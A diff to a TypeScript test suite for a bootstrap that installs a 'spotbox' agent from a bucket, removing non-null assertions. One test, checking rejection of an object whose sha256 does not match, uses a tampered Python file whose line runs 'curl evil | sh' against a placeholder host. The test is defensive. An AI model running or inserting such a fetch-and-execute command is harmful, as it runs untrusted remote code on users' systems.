@@ -72,7 +72,7 @@ describe('launch user data: a bootstrap that installs the agent from the bucket,
     const gets: string[] = [];
     const started = Date.now();
     const server = http.createServer((request, response) => {
-      const key = decodeURIComponent((request.url ?? '').split('?')[0]!.replace(/^\/my-ckpts\//, ''));
+      const key = decodeURIComponent((request.url ?? '').split('?')[0].replace(/^\/my-ckpts\//, ''));
       gets.push(key);
       const body = Date.now() - started >= (options.late ?? 0) ? objects.get(key) : undefined;
       response.writeHead(body ? 200 : 404).end(body ?? '<Error><Code>NoSuchKey</Code></Error>');
@@ -101,9 +101,9 @@ describe('launch user data: a bootstrap that installs the agent from the bucket,
     try {
       assert.equal(status, 0, stderr);
       const installed = path.join(home, '.spotbox');
-      assert.equal(fs.readFileSync(path.join(installed, 'spotbox_agent.py'), 'utf8'), files[0]!.content.toString('utf8'));
+      assert.equal(fs.readFileSync(path.join(installed, 'spotbox_agent.py'), 'utf8'), files[0].content.toString('utf8'));
       assert.ok(fs.existsSync(path.join(installed, 'spotbox_session.py')) && fs.existsSync(path.join(installed, 'python', 'spotbox_train.py')));
-      assert.ok(gets.filter((key) => key === files[0]!.key).length >= 2, 'asked again once the upload was not there yet');
+      assert.ok(gets.filter((key) => key === files[0].key).length >= 2, 'asked again once the upload was not there yet');
       assert.equal((fs.statSync(path.join(installed, 'agent.json')).mode & 0o777).toString(8), '600');
       const help = execFileSync('python3', ['-B', path.join(installed, 'spotbox_agent.py'), '--help'], { encoding: 'utf8' });
       assert.match(help, /\{run,checkpoint-now\}/, 'the agent runs, its signer imported from the bootstrap beside it');
@@ -115,7 +115,7 @@ describe('launch user data: a bootstrap that installs the agent from the bucket,
   it('refuses an object whose sha256 is not the pinned one: nothing installed, the script fails with the reason in the boot log', async function () {
     this.timeout(30_000);
     const objects = new Map(files.map((file) => [file.key, file.content]));
-    objects.set(files[1]!.key, Buffer.from('import os; os.system("curl evil | sh")\n'));
+    objects.set(files[1].key, Buffer.from('import os; os.system("curl evil | sh")\n'));
     const { home, status, stderr } = await installWith(objects);
     try {
       assert.equal(status, 1);
